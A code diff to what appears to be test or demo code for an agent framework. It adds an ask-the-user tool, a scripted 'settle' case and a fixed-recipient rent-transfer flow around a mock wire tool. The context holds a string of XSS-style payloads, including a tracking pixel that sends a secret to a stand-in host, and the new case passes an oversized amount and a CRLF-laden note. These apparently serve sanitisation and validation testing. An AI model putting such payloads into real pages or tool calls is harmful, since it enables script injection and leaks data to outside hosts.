@@ -12,9 +12,9 @@ from sayso.agents import Agent
 from sayso.agents.messages import Reply
 from sayso.agents.models.model import ModelRequest
 from sayso.agents.models.scripted import ScriptedModel, call
-from sayso.tools import calculator
+from sayso.tools import ask_user, calculator
 from sayso.tools.ordering.order_desk import MENU, ORDER, Counter, Customer, Order, OrderDesk
-from sayso.workflows import Usage
+from sayso.workflows import Usage, sequential
 
 HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
 [click me](javascript:window.hacked=3) ![pixel](http://tracker.example/p.gif?secret=1) <iframe src="http://evil.example"></iframe>
@@ -35,6 +35,12 @@ def answer(request: ModelRequest) -> Reply:
         return Reply("", (call("MENU", item="Fries"),), usage=USED)
     if "wire" in asked and not has_result:
         return Reply("", (call("wire", to="Ada Lovelace", iban="DE02 1203 0000 0000 2020 51", amount_eur=1250),), usage=USED)
+    if "settle" in asked and not has_result:
+        return Reply("", (call("wire", to="Ada", iban="DE02", amount_eur=12345678901234567890, note="two\r\nlines"),), usage=USED)
+    if "size" in asked and not has_result:
+        return Reply("", (call("ask_user", question="Which size?", choices=["small", "large"]),), usage=USED)
+    if "size" in asked:
+        return Reply(f"Noted: {request.messages[-1].text}.", usage=USED)
     if "friend" in asked and not has_result:
         return Reply("", (call("till", task="Open it."),), usage=USED)
     if "refund" in asked and not has_result:
@@ -61,7 +67,7 @@ def _desk() -> Counter:
 
 
 @sayso.tool.write(card="Transfer {amount_eur} EUR to {to}, IBAN {iban}", cost_usd=0.35)
-async def wire(to: str, iban: str, amount_eur: int, urgent: bool = False) -> str:
+async def wire(to: str, iban: str, amount_eur: int, urgent: bool = False, note: str | None = None, split: bool | None = None) -> str:
     """Send money.
 
     Args:
@@ -69,6 +75,8 @@ async def wire(to: str, iban: str, amount_eur: int, urgent: bool = False) -> str
         iban: Their account.
         amount_eur: How much.
         urgent: Whether it is to be there within seconds.
+        note: What it is for.
+        split: Whether in two parts.
     """
     return f"{amount_eur} EUR are on their way to {to}."
 
@@ -100,6 +108,7 @@ shop = Agent(
     ScriptedModel(answer, repeat=True, pieces=7),
     name="shop",
     instructions="You take orders.",
-    tools=[ORDER, MENU, calculator, wire, refund, till.as_tool(description="Ask whoever minds the till.")],
+    tools=[ORDER, MENU, calculator, wire, refund, ask_user, till.as_tool(description="Ask whoever minds the till.")],
 )
-app = App(agents=[] if os.environ.get("SHOP_APP") == "empty" else [shop], name="shop", deps=_desk)
+rent = sequential(wire.using(to="The landlord"), name="rent")  # a tool of one name with other arguments fixed
+app = App(flows=[rent], agents=[] if os.environ.get("SHOP_APP") == "empty" else [shop], name="shop", deps=_desk)
